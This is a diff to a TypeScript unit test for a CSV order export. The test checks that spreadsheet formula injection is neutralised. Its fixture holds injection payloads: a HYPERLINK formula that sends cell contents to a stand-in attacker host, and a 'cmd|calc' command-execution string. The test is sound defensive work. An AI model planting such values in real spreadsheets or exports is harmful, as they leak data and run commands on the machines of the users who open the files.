@@ -25,13 +25,17 @@ const row = (over: Partial<TAdminOrderRow>): TAdminOrderRow => ({
   payMethod: { id: 'tt', name: 'T/T' },
   buyer: { id: 7, account: 'ada', name: 'Ada', email: 'ada@example.com', mobile: null },
   lapsesAt: null,
+  fulfillment: 'none',
   ...over,
 });
 
 describe('ordersCsv', () => {
   it('neutralises formula-looking text in every column and keeps amounts numbers', () => {
     const csv = ordersCsv([
-      row({ deliveryUser: '=HYPERLINK("http://ev.il/?"&A1,"Pay here")', buyer: { id: 7, account: '@SUM(1+1)', name: 'x', email: '+1@ev.il', mobile: '-1+cmd|calc' } }),
+      row({
+        deliveryUser: '=HYPERLINK("http://ev.il/?"&A1,"Pay here")',
+        buyer: { id: 7, account: '@SUM(1+1)', name: 'x', email: '+1@ev.il', mobile: '-1+cmd|calc' },
+      }),
     ]);
     const line = csv.split('\r\n').length > 1 ? csv.split('\r\n')[1]! : csv.split('\n')[1]!;
     expect(line).toContain(`"'=HYPERLINK(""http://ev.il/?""&A1,""Pay here"")"`);
